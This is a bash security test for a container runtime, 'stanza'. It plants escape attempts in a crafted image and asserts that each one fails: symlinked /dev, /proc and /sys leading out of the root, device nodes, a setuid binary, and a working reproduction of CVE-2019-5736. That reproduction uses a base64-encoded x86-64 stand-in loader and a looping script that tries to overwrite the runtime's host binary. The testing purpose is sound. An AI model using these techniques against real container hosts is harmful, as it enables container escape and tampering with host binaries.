#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# test_20_escape_image.sh - escape attempts planted in an image: /dev, /proc and /sys as symbolic links out of the root; device nodes and a setuid program in the image; stanza's own binary reached through /proc/self/exe (CVE-2019-5736)
#
# `stanza run --image DIR` uses a directory as it is, so a learner (or whoever
# made the image) controls every file in it. Volumes on a symbolic link of the
# image are test_08's; writes reaching the image are test_09's.
# shellcheck disable=SC2016 # (the containers' scripts are in single quotes on purpose)
. "$(dirname "$0")/lib.sh"

r=$$-$RANDOM
host_mounts() { grep -c '' /proc/self/mountinfo; grep -F -e szit -e "$SZIT_TMP" /proc/self/mountinfo; }

# ---------------------------------------------------------------- /dev, /proc, /sys as links out of the root

# The runtime mounts /proc, /dev (a tmpfs, then the bound devices) and /sys
# on <root>/proc, <root>/dev and <root>/sys before pivot_root: a link there
# would be followed on the host's side. It lands in the container's private
# mount namespace, which pivot_root then detaches with the host's tree; on
# the host, nothing may change.
img=$SZIT_TMP/img-links
copy_image "$img" || die "cannot copy the image from $IMAGE_ROOTFS"
declare -A canary=()
for d in dev proc sys; do
	canary[$d]=/tmp/szit-canary-$d-$r
	mkdir "${canary[$d]}" && echo "canary of $d" >"${canary[$d]}/canary"
done
rel() { echo "../../../../../../../../../../..$1"; } # from anywhere, back to / then down
fingerprints() { find "${canary[@]}" -printf '%p %y %m %U:%G %s %T@ %l\n' | LC_ALL=C sort; cat "${canary[@]/%//canary}"; }

plant() { # DEV-TARGET PROC-TARGET SYS-TARGET
	rm -rf "${img:?}/dev" "$img/proc" "$img/sys"
	ln -s "$1" "$img/dev" && ln -s "$2" "$img/proc" && ln -s "$3" "$img/sys"
}
cases=(
	"absolute|${canary[dev]}|$(rel "${canary[proc]}")|${canary[sys]}"
	"relative|$(rel "${canary[dev]}")|${canary[proc]}|$(rel "${canary[sys]}")"
	"the host's own|/|/proc|/sys"
)
# What the runtime makes in /dev, should it land in the host's / instead.
dev_names="null zero full random urandom tty fd stdin stdout stderr ptmx pts shm mqueue"
root_entries() { LC_ALL=C ls -A /; }
# Remove what a run made in the host's / (only the names above, only empty
# files, links and empty directories that were not there before).
remove_new_root_entries() { # NEW-ENTRIES
	local e
	for e in $1; do
		[[ " $dev_names " == *" $e "* ]] || continue
		if [[ -L /$e ]] || [[ -f /$e && ! -s /$e ]]; then rm -f "/${e:?}"; elif [[ -d /$e ]]; then rmdir "/$e"; fi
	done 2>/dev/null
}
for c in "${cases[@]}"; do
	IFS='|' read -r name t_dev t_proc t_sys <<<"$c"
	plant "$t_dev" "$t_proc" "$t_sys" || die "cannot plant the links in $img"
	before_fp=$(fingerprints)
	before_mounts=$(host_mounts)
	before_root=$(root_entries)
	run_stanza --image "$img" -- sh -c '
		ls -A /dev/ /proc/ /sys/ 2>&1
		cat /dev/canary /proc/canary /sys/canary 2>&1
		echo x >/dev/null 2>&1; echo "devnull=$?"
		echo end' "$MARK"
	note "links to $name directories: status $STATUS"
	assert_match "links to $name directories: stanza ends (a result or one error, no hang)" '^(0|1|125)$' "$STATUS"
	assert_no_match "links to $name directories: the container does not see the host's files through them" 'canary of' "$OUT"
	assert_eq "links to $name directories: the host's directories are unchanged" "$before_fp" "$(fingerprints)"
	assert_eq "links to $name directories: nothing was mounted on the host" "$before_mounts" "$(host_mounts)"
	made=$(comm -13 <(printf '%s\n' "$before_root") <(root_entries) | tr '\n' ' ')
	if [[ -z $made ]]; then
		pass "links to $name directories: nothing was made in the host's /"
	else
		# /dev -> /: the tmpfs is mounted over the host's /, but a path that
		# goes through the link starts again at the process's root, under it.
		fail "ESCAPE: links to $name directories: stanza made $made in the host's / (removed now)"
		remove_new_root_entries "$made"
	fi
done
rm -rf "${canary[@]}"

# ---------------------------------------------------------------- stanza's binary through /proc/self/exe

# CVE-2019-5736 (runc): the command stanza executes is a script whose
# interpreter is /proc/self/exe, so the kernel executes the program that was
# running before execve — stanza itself, the host's file, inside the
# container. That program's own interpreter (PT_INTERP,
# /lib64/ld-linux-x86-64.so.2) is looked up in the container, where the image
# put its own: it opens /proc/self/exe (stanza's binary), keeps the
# descriptor, and execs /szit-stage2, which tries to write the binary
# through it. While stanza runs, the kernel refuses (ETXTBSY: stanza is
# executing it); the test then SIGKILLs stanza, as a closed terminal's
# session manager or an OOM kill would, while the container keeps trying.
#
# The stand-in loader (x86-64, no libc; as + ld -static -nostdlib -z noseparate-code):
#   _start: mov $2,%eax; lea exe(%rip),%rdi; xor %esi,%esi; syscall     # open("/proc/self/exe", O_RDONLY)
#           mov $59,%eax; lea sh(%rip),%rdi; lea argv(%rip),%rsi; lea envp(%rip),%rdx; syscall
#           mov $60,%eax; mov $121,%edi; syscall                      # execve failed: exit(121)
#   .data   exe: .asciz "/proc/self/exe"; sh: .asciz "/bin/sh"; stage2: .asciz "/szit-stage2"
#           argv: .quad sh, stage2, 0; envp: .quad 0
INTERP_ELF='
f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAsABAAAAAAABAAAAAAAAAAEgBAAAAAAAAAAAAAEAAOAAC
AEAABAADAAEAAAAFAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAA6AAAAAAAAADoAAAAAAAAAAAQ
AAAAAAAAAQAAAAYAAADoAAAAAAAAAOgQQAAAAAAA6BBAAAAAAABIAAAAAAAAAEgAAAAAAAAAABAA
AAAAAAC4AgAAAEiNPSwQAAAx9g8FuDsAAABIjT0rEAAASI01PRAAAEiNFU4QAAAPBbg8AAAAv3kA
AAAPBS9wcm9jL3NlbGYvZXhlAC9iaW4vc2gAL3N6aXQtc3RhZ2UyAAAAAAD3EEAAAAAAAP8QQAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAuc2hzdHJ0YWIALnRleHQALmRhdGEAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAALAAAAAQAA
AAYAAAAAAAAAsABAAAAAAACwAAAAAAAAADgAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAA
EQAAAAEAAAADAAAAAAAAAOgQQAAAAAAA6AAAAAAAAABIAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAA
AAAAAAAAAAEAAAADAAAAAAAAAAAAAAAAAAAAAAAAADABAAAAAAAAFwAAAAAAAAAAAAAAAAAAAAEA
AAAAAAAAAAAAAAAAAAA='
ximg=$SZIT_TMP/img-exe
copy_image "$ximg" || die "cannot copy the image from $IMAGE_ROOTFS"
mkdir -p "$ximg/lib64"
printf '#!/proc/self/exe\n' >"$ximg/evil"
cat >"$ximg/szit-stage2" <<'EOF'
t=$(readlink /proc/self/fd/3)
echo "fd3=$t"
case $t in /lib64/*) echo "control=ok"; exit 0 ;; esac
( printf PWNED 1<>/proc/self/fd/3 ) 2>/tmp/err; echo "write-now=$? $(cat /tmp/err)"
for i in 1 2 3 4 5 6; do
	( while :; do if printf PWNED 1<>/proc/self/fd/3; then echo WROTE; break; fi; done ) 2>/dev/null &
done
echo ready
wait
EOF
chmod 755 "$ximg/evil" "$ximg/szit-stage2"

if [[ $(uname -m) != x86_64 ]]; then
	note "not x86-64: the /proc/self/exe attempt is left out (its stand-in loader is an x86-64 program)"
elif ! printf '%s' "$INTERP_ELF" | base64 -d >"$ximg/lib64/ld-linux-x86-64.so.2"; then
	fail "cannot write the stand-in loader"
else
	chmod 755 "$ximg/lib64/ld-linux-x86-64.so.2"
	# The stand-in works: run directly, it opens itself and runs stage 2.
	run_stanza --image "$ximg" -- /lib64/ld-linux-x86-64.so.2
	assert_match "the stand-in loader runs /szit-stage2 with a descriptor of the program it loaded" \
		'control=ok' "$OUT"
	# The program that executes a container's command is the sealed, static
	# stanza-init (it refuses a script's arguments): the image's loader is
	# never asked for, and stanza's binary is never what /proc/self/exe names.
	run_stanza --image "$ximg" -- /evil "$MARK"
	assert_status 2 "a script whose interpreter is /proc/self/exe"
	assert_match "... runs the sealed stanza-init, not stanza" 'usage: stanza-init' "$ERR"
	assert_no_match "... and no stand-in loader" 'fd3=|ready' "$OUT"

	# A copy of stanza that nothing else runs (so only the attacked stanza
	# keeps it busy), and a second one to collect what the killed one leaves.
	mkdir "$SZIT_TMP/bin"
	if ! cp "$STANZA" "$SZIT_TMP/bin/stanza" || ! cp "$STANZA" "$SZIT_TMP/bin/stanza-clean"; then
		die "cannot copy $STANZA"
	fi
	chmod 755 "$SZIT_TMP/bin/stanza" "$SZIT_TMP/bin/stanza-clean"

	# exe_attack BINARY WHAT: run BINARY on the crafted image, let the
	# container try to write BINARY, SIGKILL stanza, compare. The window
	# (between the kernel releasing the killed stanza's binary and the
	# container's death) is narrow: up to 3 tries, until one gets through.
	exe_attack() { # BINARY WHAT TRIES [WHY-REFUSED]
		local bin=$1 what=$2 tries=$3 why=${4:-} before saved=$STANZA id pid1 kids p try left
		before=$(md5sum <"$bin")
		for ((try = 1; try <= tries; try++)); do
			STANZA=$bin
			bg_start exe --image "$ximg" -- /evil "$MARK"
			STANZA=$saved
			if ! wait_for_line "$SZIT_TMP/exe.out" '^ready$' 15; then
				bg_wait exe 10 2>/dev/null
				# A runtime that never lets the container execute stanza's binary
				# (a sealed copy in memory, as runc does) stops it here.
				note "$what: the attempt did not get going (status $STATUS): $(head -c 300 "$SZIT_TMP/exe.out" | tr '\n' ' ')"
				break
			fi
			id=$(state_id_of "$BG_PID")
			[[ -n $id ]] && killed_ids+=("$id")
			pid1=$(container_pid1 "$BG_PID" 5)
			kids=$(descendants "$BG_PID")
			if ((try == 1)); then
				# (Today the descriptor is of the file on the host, and the write
				# fails for the reason given; a fixed runtime may differ in both.)
				note "$what: the container's descriptor: $(grep '^fd3=' "$SZIT_TMP/exe.out")"
				note "$what: expected refusal: ${why:-any}; got: $(grep '^write-now=' "$SZIT_TMP/exe.out")"
				assert_match "$what: writing it while stanza runs fails" \
					'write-now=[1-9]' "$(grep '^write-now=' "$SZIT_TMP/exe.out")"
			fi
			nap 0.2
			kill -KILL "$BG_PID"
			bg_wait exe 10 2>/dev/null # (no "Killed" from bash)
			for p in $pid1 $kids; do wait_gone "$p" 10; done
			left=
			for p in $pid1 $kids; do
				alive "$p" && left+=" $p($(tr '\0' ' ' <"/proc/$p/cmdline" 2>/dev/null | head -c 60);$(awk '$1 == "State:" { print $2 }' "/proc/$p/status" 2>/dev/null))"
			done
			assert_eq "$what: try $try: the container died with its stanza" "" "$left"
			[[ $(md5sum <"$bin") == "$before" ]] || break
		done
		if [[ $(md5sum <"$bin") == "$before" ]]; then
			pass "$what: unchanged after stanza was killed ($((try - 1)) tries)"
		else
			fail "ESCAPE: $what was overwritten from inside the container after stanza was SIGKILLed" \
				"(try $try; first bytes now: $(head -c 8 "$bin" | od -An -c | tr -s ' '))"
			cp "$saved" "$bin" 2>/dev/null # (a copy: the next attack starts from stanza again)
		fi
	}
	killed_ids=()
	if ((!ROOTLESS)); then
		# Root's stanza binary is root's: root inside (root on the host, less
		# its capabilities) may write it whenever the kernel does not refuse.
		exe_attack "$SZIT_TMP/bin/stanza" "a root-owned stanza binary run as root" 3 "Text file busy"
	else
		# As installed (root's, 0755), a learner's container cannot write it.
		if [[ ! -O $STANZA && ! -w $STANZA ]]; then
			# Refused for its owner, not for timing: one try is enough.
			exe_attack "$STANZA" "the installed stanza binary (root's, not the learner's)" 1 "Permission denied"
		else
			note "$STANZA is the learner's own: the installed case is left to the rootless tier (a root-owned staged copy)"
		fi
		# A learner's own build of stanza belongs to the learner: root inside is the learner.
		exe_attack "$SZIT_TMP/bin/stanza" "a stanza binary the learner owns (a build of their own)" 3 "Text file busy"
	fi

	# The next stanza collects what the killed ones left.
	STANZA_SAVED=$STANZA
	STANZA=$SZIT_TMP/bin/stanza-clean
	run_stanza --image "$ximg" -- true
	STANZA=$STANZA_SAVED
	assert_status 0 "a stanza after the killed ones"
	for id in "${killed_ids[@]}"; do
		assert_true "the killed stanza's state ($id) was collected" test ! -e "$STATE_ROOT/$id"
	done
fi

# ---------------------------------------------------------------- device nodes and a setuid program in the image

# Only root can make them on the host (rootless, the learner's image can hold
# neither a device nor a setuid-root file).
if ((!ROOTLESS)); then
	if ! { mknod -m 666 "$ximg/szit-null" c 1 3 && mknod -m 666 "$ximg/szit-mem" c 1 1 &&
		mknod -m 666 "$ximg/szit-disk" b 7 0; }; then
		die "cannot make device nodes in $ximg"
	fi
	if ! { mkdir "$ximg/szit-bin" && cp "$ximg/bin/busybox" "$ximg/szit-bin/id" && chmod 4755 "$ximg/szit-bin/id"; }; then
		die "cannot make a setuid program in $ximg"
	fi
	run_stanza --image "$ximg" -- sh -c '
		for n in /szit-null /szit-mem /szit-disk; do
			( : <$n ) 2>/dev/null; echo "read $n=$?"
			( : >$n ) 2>/dev/null; echo "write $n=$?"
		done
		echo "mode=$(stat -c %A /szit-bin/id)"
		echo "suid=$(su -s /bin/sh app -c "/szit-bin/id -u" 2>&1)"
		echo "plain=$(su -s /bin/sh app -c "id -u" 2>&1)"'
	assert_status 0 "a crafted image with device nodes and a setuid program"
	for n in /szit-null /szit-mem /szit-disk; do
		assert_match "a device node of the image ($n) cannot be opened for reading (nodev)" "read $n=[1-9]" "$OUT"
		assert_match "... nor for writing" "write $n=[1-9]" "$OUT"
	done
	assert_match "the image's /szit-bin/id is setuid root" 'mode=-rwsr-xr-x' "$OUT"
	assert_eq "run by app (uid 1000) it stays uid 1000 (no_new_privs)" "suid=1000" "$(grep '^suid=' <<<"$OUT")"
	assert_eq "(as the image's own id says for app)" "plain=1000" "$(grep '^plain=' <<<"$OUT")"
else
	note "rootless: the learner can make neither device nodes nor setuid-root files for an image (test_10 checks mknod inside)"
fi

finish
